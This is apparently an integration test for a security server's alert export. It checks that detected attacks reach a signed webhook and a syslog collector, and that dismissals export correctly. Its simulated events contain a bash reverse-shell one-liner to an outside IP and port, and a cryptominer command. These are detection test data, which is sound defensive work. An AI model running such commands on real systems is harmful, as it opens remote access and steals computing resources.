/**
 * Alert export over the real server: destinations read from a settings file the way `vigil serve`
 * reads them, a loopback webhook receiver and a loopback syslog collector (TCP, octet-counted RFC 5424
 * with a CEF body). An attack reported by a device's agent raises an alert that reaches both; an
 * analyst dismissing it through the API sends a `dismissed` event; a refused second dismissal sends
 * nothing.
 */
import { createHmac, timingSafeEqual } from 'node:crypto';
import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { createServer as createHttpServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { createServer as createTcpServer, type AddressInfo, type Server as TcpServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { processItem } from '@vigil/sim';
import { decodeSecurityMessage } from '@vigil/protocol';
import { AlertExportConfigError } from '@vigil/analytics';
import { analyticsServerOptions, resolveServerSettings, startServer } from '@vigil/server';
import { eventually, startScenarioServer, type ScenarioServer } from './support/scenario-server.js';

const SECRET = 'export-scenario-secret';

interface Hook {
  readonly headers: IncomingHttpHeaders;
  readonly raw: Buffer;
  readonly body: { event: string; alert: { id: number; typeId: string; deviceId: string; status: string } };
}

let t: ScenarioServer | undefined;
let settingsDir: string | undefined;
let webhook: Server;
let collector: TcpServer;
const hooks: Hook[] = [];
const syslogChunks: Buffer[] = [];

beforeAll(async () => {
  webhook = createHttpServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (chunk: Buffer) => chunks.push(chunk));
    req.on('end', () => {
      const raw = Buffer.concat(chunks);
      hooks.push({ headers: req.headers, raw, body: JSON.parse(raw.toString()) as Hook['body'] });
      res.writeHead(204).end();
    });
  });
  collector = createTcpServer((socket) => socket.on('data', (chunk: Buffer) => syslogChunks.push(chunk)));
  await new Promise<void>((resolve) => webhook.listen(0, '127.0.0.1', resolve));
  await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
  settingsDir = await mkdtemp(join(tmpdir(), 'vigil-export-settings-'));
  const file = join(settingsDir, 'vigil.json');
  await writeFile(
    file,
    JSON.stringify({
      alertDestinations: [
        {
          kind: 'webhook',
          url: `http://127.0.0.1:${(webhook.address() as AddressInfo).port}/hooks/vigil`,
          secret: SECRET,
        },
        {
          kind: 'syslog',
          host: '127.0.0.1',
          port: (collector.address() as AddressInfo).port,
          transport: 'tcp',
          facility: 'local4',
        },
      ],
    }),
  );
  const settings = await resolveServerSettings({ file });
  t = await startScenarioServer({ serverOptions: analyticsServerOptions(settings) });
}, 30_000);

afterAll(async () => {
  // The server first: its exporter delivers what is queued before the receivers go.
  await t?.stop();
  webhook.closeAllConnections();
  await new Promise((resolve) => webhook.close(resolve));
  await new Promise((resolve) => collector.close(resolve));
  if (settingsDir !== undefined) await rm(settingsDir, { recursive: true, force: true });
});

/** The octet-counted frames (RFC 6587 §3.4.1) the collector received so far. */
function syslogMessages(): string[] {
  const stream = Buffer.concat(syslogChunks);
  const messages: string[] = [];
  let at = 0;
  for (let guard = 0; at < stream.length && guard < 10_000; guard += 1) {
    const space = stream.indexOf(0x20, at);
    const length = Number(stream.subarray(at, space).toString());
    if (space === -1 || stream.length < space + 1 + length) break;
    messages.push(stream.subarray(space + 1, space + 1 + length).toString());
    at = space + 1 + length;
  }
  return messages;
}

const hooksOf = (alertId: number, event: string) =>
  hooks.filter((hook) => hook.body.alert.id === alertId && hook.body.event === event);
const syslogOf = (alertId: number, event: string) =>
  syslogMessages().filter((line) => line.includes(` externalId=${alertId} act=${event} `));

const shell = (commandLine: string) =>
  processItem({
    executable: commandLine.split(' ')[0]!,
    commandLine,
    processId: 4242,
    parentProcessId: 1,
    userId: '0',
    userName: 'root',
  });

/** Waits (bounded) until `find` returns something; resolves with it. */
const arrival = <T>(find: () => readonly T[]): Promise<readonly T[]> =>
  eventually(() => {
    const found = find();
    return Promise.resolve(found.length > 0 ? found : undefined);
  });

let alertId = 0;

describe('alert export from the running server', () => {
  it('a reverse shell raises an alert that reaches the webhook (signed) and the syslog collector', async () => {
    const server = t!;
    const device = await server.addAgent('export-shell');
    await server.sendEvents(device, [
      { name: 'ProcessCreate', payload: [shell('bash -i >& /dev/tcp/45.133.1.20/4444 0>&1')] },
    ]);
    await server.settle();
    const page = await server.client.listAlerts({ deviceId: 'export-shell', typeId: 'Vigil_ReverseShell' });
    expect(page.items).toHaveLength(1);
    alertId = page.items[0]!.id;

    const [hook] = await arrival(() => hooksOf(alertId, 'created'));
    expect(hook!.body.alert).toMatchObject({
      typeId: 'Vigil_ReverseShell',
      deviceId: 'export-shell',
      status: 'active',
    });
    const expected = Buffer.from(`sha256=${createHmac('sha256', SECRET).update(hook!.raw).digest('hex')}`);
    const signature = Buffer.from(String(hook!.headers['x-vigil-signature']));
    expect(signature.length === expected.length && timingSafeEqual(signature, expected)).toBe(true);

    const [line] = await arrival(() => syslogOf(alertId, 'created'));
    // local4 (20) × 8 + error (3, a high alert) = 163.
    expect(line).toMatch(
      /^<163>1 \S+ \S+ vigil \d+ Vigil_ReverseShell - CEF:0\|Vigil\|Vigil\|[^|]+\|Vigil_ReverseShell\|/,
    );
    expect(line).toContain('dvchost=export-shell');
    expect(line).toContain('cs2=active');
  });

  it('dismissing the alert sends a dismissed event to both; a refused second dismissal sends nothing', async () => {
    const server = t!;
    expect(alertId).toBeGreaterThan(0);
    const dismissed = await server.call('POST', `/api/alerts/${alertId}/dismiss`, { note: 'red team drill' });
    expect(dismissed.status).toBe(200);
    const [hook] = await arrival(() => hooksOf(alertId, 'dismissed'));
    expect(hook!.body.alert).toMatchObject({ id: alertId, status: 'dismissed' });
    const [line] = await arrival(() => syslogOf(alertId, 'dismissed'));
    expect(line).toContain('cs2=dismissed');

    expect((await server.call('POST', `/api/alerts/${alertId}/dismiss`)).status).toBe(409);
    // A later alert's resolution is exported after the refusal, so once it has arrived anything the
    // refusal had sent would have arrived before it.
    const other = await server.addAgent('export-miner');
    await server.sendEvents(other, [
      { name: 'ProcessCreate', payload: [shell('/opt/xmrig --url stratum+tcp://pool.example:3333')] },
    ]);
    await server.settle();
    const miner = (await server.client.listAlerts({ deviceId: 'export-miner' })).items[0]!;
    expect((await server.call('POST', `/api/alerts/${miner.id}/resolve`)).status).toBe(200);
    await arrival(() => hooksOf(miner.id, 'resolved'));
    await arrival(() => syslogOf(miner.id, 'resolved'));
    expect(hooksOf(alertId, 'dismissed')).toHaveLength(1);
    expect(syslogOf(alertId, 'dismissed')).toHaveLength(1);
    expect(server.server.alertExport?.stats()).toEqual([
      expect.objectContaining({ failed: 0, dropped: 0 }),
      expect.objectContaining({ failed: 0, dropped: 0 }),
    ]);
  });

  it('/metrics reports what each destination delivered', async () => {
    const server = t!;
    const stats = server.server.alertExport!.stats();
    const response = await fetch(`${server.server.url}/metrics`, {
      headers: { authorization: `Bearer ${server.server.firstAdminToken!}` },
    });
    expect(response.status).toBe(200);
    const text = await response.text();
    for (const entry of stats) {
      expect(entry.delivered).toBeGreaterThanOrEqual(4);
      const series = `vigil_alert_export_delivered_total{destination="${entry.destination}"}`;
      const line = text.split('\n').find((candidate) => candidate.startsWith(`${series} `));
      expect(Number(line?.slice(series.length + 1))).toBeGreaterThanOrEqual(entry.delivered);
    }
    expect(text).toContain('vigil_metrics_source_up{source="alert-export"} 1');
  });
});

describe('misconfigured export', () => {
  it('stops the start with every problem listed, before any data is opened', async () => {
    const dataDir = await mkdtemp(join(tmpdir(), 'vigil-export-bad-'));
    try {
      const error = await startServer({
        dataDir,
        listeners: { mqtts: { port: 0, host: '127.0.0.1' }, wss: false },
        api: { port: 0 },
        decode: decodeSecurityMessage,
        logger: false,
        alertExport: {
          destinations: [
            { kind: 'webhook', url: 'ftp://siem.example/hook' },
            { kind: 'syslog', host: '127.0.0.1', port: 0 },
          ],
        },
      }).catch((thrown: unknown) => thrown);
      expect(error).toBeInstanceOf(AlertExportConfigError);
      expect((error as AlertExportConfigError).violations.map((v) => v.path)).toEqual([
        'destinations[0].url',
        'destinations[1].port',
      ]);
      expect(await readdir(dataDir)).toEqual([]);
    } finally {
      await rm(dataDir, { recursive: true, force: true });
    }
  });
});
